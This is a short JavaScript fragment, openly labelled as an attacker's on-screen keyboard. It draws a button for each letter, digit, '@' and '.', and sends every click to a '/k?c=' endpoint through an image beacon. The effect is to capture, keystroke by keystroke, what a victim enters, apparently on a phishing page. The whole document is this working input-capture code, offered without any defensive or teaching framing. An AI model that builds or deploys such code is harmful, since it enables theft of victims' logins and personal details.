// The attacker's on-screen keyboard: one button per character, each press sent home.
const keys = document.getElementById('keys');
for (const c of [...'abcdefghijklmnopqrstuvwxyz0123456789', '@', '.']) {
  const key = document.createElement('button');
  key.type = 'button';
  key.textContent = `Key ${c}`;
  key.addEventListener('click', () => { new Image().src = `/k?c=${encodeURIComponent(c)}`; });
  keys.append(key, ' ');
}
